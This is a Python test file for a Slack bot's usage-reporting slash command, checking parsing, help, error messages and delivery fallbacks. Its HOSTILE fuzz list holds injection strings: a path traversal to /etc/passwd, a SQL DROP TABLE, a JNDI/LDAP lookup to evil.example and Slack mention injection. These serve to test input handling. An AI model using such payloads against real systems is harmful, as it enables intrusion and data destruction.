"""A command over signed HTTP: acknowledged at once, then answered with figures that are right."""

import json
import logging

import pytest

from bot.demo.slack import LocalSlack, validate
from tests import world as worlds


def kinds(payload) -> list[str]:
    return [block["type"] for block in payload["blocks"]]


def rows(payload) -> list[list[str]]:
    [table] = [block for block in payload["blocks"] if block["type"] == "table"]
    return [[cell["text"] for cell in row] for row in table["rows"]]


def test_a_question_gets_its_figures_as_table_chart_and_text(shared):
    payload = shared.ask("tokens 7d by key")
    assert validate(payload["blocks"]) == []
    assert {"header", "context", "section", "data_visualization", "table"} <= set(kinds(payload))
    assert rows(payload) == [
        ["API key", "Sum", "Share", "Avg/day", "Min", "Max"],
        ["prod", "22K", "57.1%", *rows(payload)[1][3:]],
        ["evals", "8.8K", "22.9%", *rows(payload)[2][3:]],
        ["(chatroom)", "6.6K", "17.1%", *rows(payload)[3][3:]],
        ["laptop", "1.1K", "2.9%", *rows(payload)[4][3:]],
        ["Total", "38.5K", "100.0%", "–", "–", "–"],
    ]
    for words in ("Tokens: 38.5K", "prod: 22K (57.1%)", "laptop: 1.1K (2.9%)", "Data as of"):
        assert words in payload["text"]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", ["Spend:", "Tokens:", "Requests:"]),
        ("spend 7d", ["Spend: $39.00"]),
        ("spend 7d credits", ["Spend from credits: $35.00"]),
        ("COST 7D BYOK", ["Spend from BYOK: $4.00"]),
        ("requests 7d", ["Requests: 21"]),
        ("spend 7d by model", ["anthropic/claude-opus-4.5: $27.00", "openai/gpt-5.1: $12.00"]),
        (
            "spend 7d by creator",
            ["Ada Lovelace: $26.00", "Grace Hopper: $8.00", "(no creator): $5.00"],
        ),
        ("7d by creator tokens creator:me", ["Tokens: 28.6K", "Ada Lovelace: 28.6K (100.0%)"]),
        ("tokens 7d model:*gpt*", ["Tokens: 8.8K"]),
        ("tokens 7d key:prod key:EVALS", ["Tokens: 30.8K"]),
        ("tokens 7d key:prod model:gpt-5.1", ["Tokens: 2.2K"]),
        ("tokens 7d creator:grace@example.com", ["Tokens: 8.8K"]),
        ("tokens 7d by key top 1", ["prod: 22K", "Others (3): 16.5K"]),
        ("tokens 1y", ["Tokens: 38.5K"]),
    ],
)
def test_every_question_gets_the_figures_it_asks_for(shared, text, words):
    said = shared.words(text)
    for figure in words:
        assert figure in said


@pytest.mark.parametrize(
    ("text", "read_as", "figure"),
    [
        ("how many tokens in the past 7 days?", "tokens 7d", "Tokens: 38.5K"),
        ("tokens of the last 7 days without gpt", "tokens 7d -model:*gpt*", "Tokens: 29.7K"),
        ("who used the most tokens in the past 7 days", "tokens 7d by creator top 1", "Ada"),
    ],
)
def test_plain_english_is_answered_and_says_how_it_was_read(shared, text, read_as, figure):
    said = shared.words(text)
    assert said.startswith(f"I read that as `/activity {read_as}`.")
    assert figure in said


def test_what_has_no_answer_yet_is_one_sentence(shared):
    said = shared.words("spend by team last month")
    assert said == "I can't group or filter by team yet; model, key and creator work."


def test_people_may_be_meant_as_slack_escapes_them(shared):
    grace = shared.slack.user("grace").id
    assert "Tokens: 8.8K" in shared.words(f"tokens 7d creator:<@{grace}|grace>")
    assert "without an e-mail" in shared.words("tokens 7d creator:<@U0NOBODY|who>")


def test_the_answer_says_which_command_gives_it_again(shared):
    payload = shared.ask("Tokens   by API KEY 7d  top 3")
    assert "`/activity tokens 7d by key top 3`" in json.dumps(payload["blocks"])


def test_the_command_may_have_another_name(openrouter, database):
    with (
        LocalSlack() as slack,
        worlds.running(openrouter, slack, database, ACTIVITY_COMMAND="/usage") as world,
    ):
        world.bot_client.command("ada", "general", "tokens 7d", command="/usage")
        [answer] = slack.wait_for(lambda: slack.responses)
        assert "`/usage tokens 7d`" in json.dumps(answer["payload"]["blocks"])
        world.bot_client.command("ada", "general", "help", command="/usage")
        helped = slack.wait_for(lambda: slack.responses[1:])[0]["payload"]["text"]
        assert "/usage" in helped
        assert "/activity" not in helped


def test_an_answer_goes_again_without_its_chart_where_slack_refuses_that(openrouter, database):
    with (
        LocalSlack(refuse_charts=True) as slack,
        worlds.running(openrouter, slack, database) as world,
    ):
        world.send("tokens 7d by key")
        refused, taken = slack.wait_for(lambda: slack.responses[1:] and slack.responses)
        assert (refused["error"], taken["error"]) == ("invalid_blocks", None)
        assert "data_visualization" in kinds(refused["payload"])
        assert "data_visualization" not in kinds(taken["payload"])
        assert taken["payload"]["text"] == refused["payload"]["text"]
        assert rows(taken["payload"])[1][:2] == ["prod", "22K"]
        assert len(slack.ephemerals("ada", "general")) == 1


@pytest.mark.parametrize("text", ["help", "HELP", "?", "tokens help", "help tokns"])
def test_help_is_short_and_leads_to_its_sections(shared, text):
    payload = shared.ask(text)
    assert validate(payload["blocks"]) == []
    assert "`/activity spend 1d by model`" in payload["text"]
    assert "help_schedules" in str(payload["blocks"])


def test_the_help_on_asking_says_all_words(shared):
    payload = shared.ask("help asking")
    for word in ("spend", "1m", "by model", "creator:me", "top 5", "share", "tz Europe/Berlin"):
        assert word in payload["text"]


@pytest.mark.parametrize(
    ("text", "problem", "suggestion"),
    [
        ("tokns 1m", "I don't recognize “tokns”.", "/activity tokens 1m"),
        (
            "tokens by modle",
            "You can group by model, key or creator",
            "/activity tokens 1d by model",
        ),
        ("tokens key:prd", "No key is called “prd”.", "/activity tokens 1d key:prod"),
        ("spend 1x", "I can't read “1x” as a date.", None),
        ("spend 0d", "I can't use “0d”", "/activity spend 1d"),
        ("spend 99999999y", "I can't use “99999999y”", "/activity spend 10y"),
        ("spend 2026-13", "There is no such date as “2026-13”.", None),
    ],
)
def test_wrong_words_get_what_was_wrong_and_the_nearest_right_words(
    shared, text, problem, suggestion
):
    payload = shared.ask(text)
    assert validate(payload["blocks"]) == []
    assert problem in payload["text"]
    assert suggestion is None or f"Did you mean `{suggestion}" in payload["text"]


HOSTILE = [
    "by by by",
    "by",
    "1x",
    "0d",
    "-1d",
    "99999999y",
    "999999999999999999999999d",
    "2026-13",
    "2026-02-30",
    "2026-10-15..2026-10-01",
    "9999-12",
    "0000-00",
    "top",
    "top 0",
    "top 99999999999",
    "tz",
    "tz Mars/Base",
    "tz ../../etc/passwd",
    "key:",
    'key:"',
    'key:""',
    '"',
    "::::",
    "creator:me creator:me creator:me",
    "creator:<@U1|",
    "model:" + "*" * 250,
    "model:" + "*a" * 120,
    "🚀🔥👩‍🚀",
    "צריכה של היום",
    "الإنفاق اليوم",
    "\u202etokens",
    "tokens\u0000\u0007",
    "\ud800",
    "١٢٣d",
    "1_000d",
    "<!channel> <@U1> <https://evil.example|tokens>",
    "`tokens` *spend*",
    "&amp;&lt;&gt;",
    "'; DROP TABLE usage; --",
    "{0} %s %n ${jndi:ldap://evil.example}",
    "x" * 10_000,
    "by " * 3_000,
    "key:a " * 60,
    "🔥" * 5_000,
    "\n" * 1_000 + "x",
]


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: ascii(text[:24]))
def test_whatever_is_typed_gets_a_sentence(shared, text, caplog):
    typed = text.encode("utf-8", "replace").decode()
    payload = shared.ask(typed)
    assert validate(payload["blocks"]) == []
    assert payload["text"].strip()
    assert len(payload["text"]) < 4_000
    for live in ("<!", "<@", "<http", "Traceback", "wrong here"):
        assert live not in payload["text"] + "".join(written(payload["blocks"]))
    assert [one for one in caplog.records if one.levelno >= logging.ERROR] == []


def written(value) -> list[str]:
    """Every mrkdwn text in the blocks; dates are Slack's own markup and meant."""
    if isinstance(value, list):
        return [text for one in value for text in written(one)]
    if not isinstance(value, dict):
        return []
    if value.get("type") == "mrkdwn":
        return [value["text"].replace("<!date^", "")]
    return [text for one in value.values() for text in written(one)]


@pytest.mark.parametrize("code", ["expired_url", "used_url"])
def test_an_answer_goes_to_the_dm_where_the_response_url_is_used_up(world, code):
    world.slack.fail("response_url", code)
    world.send("tokens 7d by key")
    dm = world.slack.im("ada").id
    [message] = world.slack.wait_for(lambda: world.slack.messages(dm))
    assert "Tokens: 38.5K" in message["text"]
    assert rows(message)[-1][:2] == ["Total", "38.5K"]


@pytest.mark.parametrize("fault", ["drop", 500, 502, 429])
def test_an_answer_goes_to_the_dm_where_slack_breaks(world, fault):
    world.slack.fail("response_url", fault)
    world.send("tokens 7d")
    dm = world.slack.im("ada").id
    [message] = world.slack.wait_for(lambda: world.slack.messages(dm))
    assert "Tokens: 38.5K" in message["text"]


def test_the_bot_goes_on_where_an_answer_cannot_be_delivered_at_all(world, caplog):
    world.slack.fail("response_url", "drop")
    world.slack.fail("conversations.open", 500)
    world.send("tokens 7d")
    worlds.wait_until(lambda: "An answer could not be delivered" in caplog.text)
    assert "Tokens: 38.5K" in world.words("tokens 7d")


def test_many_may_ask_at_once(shared):
    people = ["ada", "grace", "alan", "katherine"] * 5
    before = len(shared.slack.responses)
    for number, person in enumerate(people):
        assert shared.send(f"tokens {number + 3}d by key", person).status == 200
    answers = shared.slack.wait_for(
        lambda: shared.slack.responses[before + len(people) - 1 :] and shared.slack.responses
    )[before:]
    assert sum("38.5K" in answer["payload"]["text"] for answer in answers) == len(people)


def test_the_buttons_of_the_help_show_its_sections(administered):
    administered.words("help")
    message = administered.slack.ephemerals("ada", "general")[-1]
    before = len(administered.slack.responses)
    administered.bot_client.click("ada", "general", message["ts"], "help_alerts")
    [said] = administered.slack.wait_for(lambda: administered.slack.responses[before:])
    assert said["payload"]["text"].startswith("*Alerts*")
    assert said["payload"]["replace_original"]
    assert administered.words("help foo").startswith("There is no help section “foo”.")
